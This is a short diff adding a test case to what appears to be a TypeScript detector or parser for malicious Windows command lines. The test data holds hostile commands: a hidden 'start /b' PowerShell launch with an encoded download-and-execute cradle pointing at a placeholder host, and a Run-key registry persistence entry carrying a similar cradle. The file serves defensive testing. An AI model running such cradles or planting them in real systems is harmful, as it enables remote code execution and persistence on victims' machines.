@@ -89,6 +89,14 @@ const CASES: Case[] = [
     ],
   ],
   [
+    'start with a switch before the empty window title',
+    `start /b "" powershell -WindowStyle Hidden -EncodedCommand ${enc(`iwr http://${HOST}/a.ps1 | iex`)}`,
+    [
+      exec('powershell -EncodedCommand', { input: ['decoded'] }),
+      exec('Invoke-Expression', { input: ['network', 'decoded'] }),
+    ],
+  ],
+  [
     'a Run key whose data quotes a PowerShell cradle',
     `reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v Upd /t REG_SZ /d "powershell -w hidden -c \\"iex (iwr http://${HOST}/u.ps1)\\"" /f`,
     [
